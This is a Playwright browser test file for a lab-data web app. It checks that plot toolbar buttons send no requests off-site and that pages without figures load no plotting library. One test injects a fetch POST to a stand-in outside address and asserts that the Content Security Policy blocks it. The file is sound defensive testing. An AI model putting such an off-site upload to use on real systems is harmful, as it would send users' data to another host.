"""Nothing leaves the group from a plot: every toolbar button of every figure, clicked in a real
browser, sends requests only to the app itself. The example files are the kinds' own generators
(``server.kinds.<kind>.example()``, each built from a physical model)."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from server.ingest.table import to_csv_bytes
from server.kinds import KINDS
from server.synth.ferro import miller_loop

pytestmark = pytest.mark.browser

PLOT_KINDS = [name for name, kind in KINDS.items() if kind.figure is not None]


class Requests:
    """Every request the page makes, and those that go anywhere but the app."""

    def __init__(self, page: Page, base: str) -> None:
        self.base = urlsplit(base).netloc
        self.urls: list[str] = []
        page.on("request", lambda r: self.urls.append(r.url))

    @property
    def outside(self) -> list[str]:
        return [u for u in self.urls
                if not u.startswith(("data:", "blob:")) and urlsplit(u).netloc != self.base]


def _click_every_button(page: Page, plot) -> int:
    """Click each toolbar button of ``plot`` (the PNG download is caught); returns how many there were."""
    expect(plot.locator("svg.main-svg").first).to_be_visible()
    plot.hover()
    buttons = plot.locator(".modebar-btn")
    count = buttons.count()
    assert count >= 5, "the toolbar did not appear"
    titles = [buttons.nth(i).get_attribute("data-title") or "" for i in range(count)]
    assert not any("share" in t.lower() or "cloud" in t.lower() or "studio" in t.lower() for t in titles), titles
    assert plot.locator(".modebar a[href]").count() == 0, "the toolbar links off-site (plotly logo)"
    for i, title in enumerate(titles):
        plot.hover()
        if "download" in title.lower():
            with page.expect_download() as download:
                buttons.nth(i).click()
            assert download.value.suggested_filename.endswith(".png")
        else:
            buttons.nth(i).click()
    return count


def test_every_toolbar_button_of_every_plot_kind_stays_on_the_app(page: Page, live, login):
    code = live.compound("COc1ccc(OCCCCCC)cc1OC")  # an invented test ether
    batch = live.batch(code, state="made")
    ids = {}
    for name in PLOT_KINDS:
        example = KINDS[name].example()
        ids[name] = live.measurement(batch, name, example.raw, example.filename)
    for t_K, pr in ((310, 5.0), (320, 4.0)):  # two more loops: the compound's Pr(T) figure needs two temperatures
        live.measurement(batch, "pe_loop", to_csv_bytes(miller_loop(8, pr, 50, 150), {"temperature": f"{t_K} K"}),
                         f"loop_{t_K}K.csv")
    other = live.compound("COc1ccc(OCCCCC)cc1OC")  # a second compound for the comparison overlay
    live.measurement(live.batch(other, state="made"), "pe_loop", KINDS["pe_loop"].example().raw, "loop.csv")
    login("member")
    requests = Requests(page, live.url)
    clicked = {}
    for name, mid in ids.items():
        page.goto(f"/measurements/{mid}")
        clicked[name] = _click_every_button(page, page.locator("[data-figure]").first)
    pages = {"compound": f"/compounds/{code}", "explorer": "/explorer",
             "compare": f"/compare?codes={code},{other}&kind=pe_loop"}
    page.goto(f"/measurements/{ids['pe_loop']}")
    pages["sample"] = page.locator("h1 a[href^='/samples/']").get_attribute("href")
    for name, url in pages.items():
        page.goto(url)
        plot = page.locator("[data-figure]").first
        expect(plot, f"no figure on {url}").to_have_count(1)
        clicked[name] = _click_every_button(page, plot)
    assert set(clicked) >= set(PLOT_KINDS) | {"compound", "explorer", "compare", "sample"}
    assert requests.urls and not requests.outside, requests.outside


def test_the_browser_refuses_a_figure_sent_off_site(page: Page, live, login, browser_log):
    """Even if a button slipped through, the policy stops the upload: a form post to another host is refused."""
    code = live.compound("COc1ccc(OCCCCCCC)cc1OC")
    batch = live.batch(code, state="made")
    example = KINDS["pe_loop"].example()
    mid = live.measurement(batch, "pe_loop", example.raw, example.filename)
    login("member")
    page.goto(f"/measurements/{mid}")
    expect(page.locator("[data-figure] svg.main-svg").first).to_be_visible()
    requests = Requests(page, live.url)
    violations = page.evaluate("""() => new Promise(resolve => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', e => seen.push(e.violatedDirective));
        fetch('http://198.51.100.7/newchart', {method: 'POST', body: 'x'}).catch(() => null);
        setTimeout(() => resolve(seen), 500);
    })""")
    assert "connect-src" in violations
    assert not requests.outside, requests.outside
    # chromium reports the refusal on the console; that refusal is what this test provoked
    refused = [p for p in browser_log.problems if "198.51.100.7" in p]
    assert refused and all("Content Security Policy" in p for p in refused), browser_log.problems
    browser_log.problems[:] = [p for p in browser_log.problems if p not in refused]


def test_a_page_without_a_figure_loads_no_plotting_library(page: Page, live, login):
    code = live.compound("COc1ccc(OCCCCCCCC)cc1OC")
    batch = live.batch(code, state="made")
    example = KINDS["elemental"].example()  # a kind without a figure (a crystal's page draws its cell)
    mid = live.measurement(batch, "elemental", example.raw, example.filename)
    login("member")
    requests = Requests(page, live.url)
    page.goto(f"/measurements/{mid}")
    expect(page.locator("h1")).to_be_visible()
    assert not any("plotly" in u for u in requests.urls), requests.urls
